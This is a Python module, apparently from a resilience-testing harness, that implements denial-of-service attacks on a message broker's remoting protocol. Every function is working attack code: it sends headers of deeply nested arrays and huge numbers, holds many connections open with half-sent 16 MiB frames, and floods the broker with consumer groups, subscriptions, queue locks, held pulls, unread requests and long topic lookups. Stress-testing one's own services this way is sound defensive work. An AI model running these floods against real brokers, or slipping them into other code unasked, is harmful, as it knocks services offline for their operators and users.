"""Attacks by the remoting protocol, for `hostile.py`: each sends until nothing is left to send."""

import contextlib
import json
import struct
from collections.abc import Callable, Iterator
from typing import Any

from hostile.attackers import Target
from support.http2.blocking import Ended, Peer
from support.remoting.handlers import frame, send_fields

__all__ = [
    "half_frames",
    "held_pulls",
    "many_fields",
    "many_groups",
    "many_locks",
    "many_routes",
    "many_subscriptions",
    "many_values",
    "nested_headers",
    "unread_lists",
    "unread_pulls",
]

MIB = 1 << 20
HEADER_BYTES = 250 << 10  # a little less than a header may have
FIELDS = {"consumerGroup": "held", "topic": "attacked", "queueId": 0, "queueOffset": 0, "maxMsgNums": 32}
PULL = FIELDS | {"sysFlag": 6, "commitOffset": 0, "suspendTimeoutMillis": 15_000, "subscription": "*"}
READ_S = 0.05


def repeated(target: Target, frames: Callable[[int], bytes]) -> None:
    """Send frames on one connection after the other, as each is ended."""
    number = 0
    while target.left:
        with contextlib.suppress(Ended, OSError), Peer(target) as peer:
            while target.left and not peer.ended:
                number += 1
                peer.send(frames(number))
                peer.read(0)
            while peer.read(READ_S):
                pass


def headers(text: bytes) -> bytes:
    """Return a frame with a header."""
    return struct.pack(">II", 4 + len(text), len(text)) + text


def nested_headers(target: Target) -> None:
    """Send headers of arrays in arrays, and of long numbers."""
    deep = b'{"code":38,"opaque":1,"x":' + b"[" * HEADER_BYTES + b"}"
    digits = b'{"code":38,"opaque":1,"x":' + b"9" * HEADER_BYTES + b"}"
    repeated(target, lambda number: headers(deep if number % 2 else digits))


def many_fields(target: Target) -> None:
    """Send headers of very many keys, which are read and refused, or ignored."""
    keys = json.dumps({"code": 38, "opaque": 1, "flag": 0} | {f"k{n}": 0 for n in range(22_000)}).encode()
    repeated(target, lambda number: headers(keys))


def half_frames(target: Target) -> None:
    """Send the half of a large frame on each of many connections, and keep them."""
    each = struct.pack(">II", 16 * MIB - 8, 10) + bytes(MIB)
    with contextlib.ExitStack() as stack:
        while target.left:
            with contextlib.suppress(Ended, OSError):
                stack.enter_context(Peer(target)).send(each)


def many_groups(target: Target) -> None:
    """Pull for one group after the other."""
    repeated(target, lambda number: frame(11, number, PULL | {"consumerGroup": f"g{number}", "sysFlag": 4}))


def many_subscriptions(target: Target) -> None:
    """Send heartbeats of as many subscriptions as one may have, of other clients and groups each time."""

    def heartbeat(number: int) -> bytes:
        topics = [{"topic": f"t{topic}", "subString": "a" * 400, "subVersion": 1} for topic in range(1000)]
        consumer = {"groupName": f"g{number}", "subscriptionDataSet": topics}
        body = {"clientID": f"c{number}", "consumerDataSet": [consumer]}
        return frame(34, number, {}, json.dumps(body).encode())

    repeated(target, heartbeat)


def many_locks(target: Target) -> None:
    """Lock as many queues as a request may name, others each time."""

    def lock(number: int) -> bytes:
        queues: list[dict[str, Any]] = [
            {"brokerName": "broker-a", "queueId": queue_id, "topic": f"t{number}"} for queue_id in range(4096)
        ]
        body = {"clientId": "c", "consumerGroup": f"g{number}", "mqSet": queues}
        return frame(41, number, {}, json.dumps(body).encode())

    repeated(target, lock)


def held_pulls(target: Target) -> None:
    """Have as many pulls held as the bytes allow, on connections that stay."""
    for peer in kept(target):
        number = 0
        with contextlib.suppress(Ended, OSError):
            while target.left and not peer.ended and number < 3000:
                number += 1
                peer.send(frame(11, number, PULL | {"queueOffset": 1 << 40 if number % 2 else 0}))


def unread_pulls(target: Target) -> None:
    """Ask for messages over and over, and read nothing."""
    with contextlib.suppress(Ended, OSError), Peer(target) as peer:
        for number in range(200):
            peer.send(frame(310, number, send_fields("attacked", i=""), bytes(100_000)))
            peer.read(0)
    for peer in kept(target):
        with contextlib.suppress(Ended, OSError):
            for number in range(2000):
                if not target.left or peer.ended:
                    break
                peer.send(frame(11, number, PULL | {"sysFlag": 4, "queueOffset": number % 100}))


def unread_lists(target: Target) -> None:
    """Ask for all topics and brokers over and over, and read nothing."""
    for peer in kept(target):
        with contextlib.suppress(Ended, OSError):
            for number in range(2000):
                if not target.left or peer.ended:
                    break
                peer.send(frame(206 if number % 2 else 106, number, {}))


def many_routes(target: Target) -> None:
    """Ask for the routes of topics with long names that are not there, others each time."""
    repeated(target, lambda number: frame(105, number, {"topic": f"{number:x}" * 20_000}))


def many_values(target: Target) -> None:
    """Put values, others each time, as peers over loopback may."""
    repeated(
        target,
        lambda number: frame(100, number, {"namespace": "n", "key": f"k{number}", "value": "v" * 10_000}),
    )


def kept(target: Target) -> Iterator[Peer]:
    """Yield connections that stay until nothing is left."""
    with contextlib.ExitStack() as stack:
        while target.left:
            with contextlib.suppress(OSError):
                yield stack.enter_context(Peer(target))
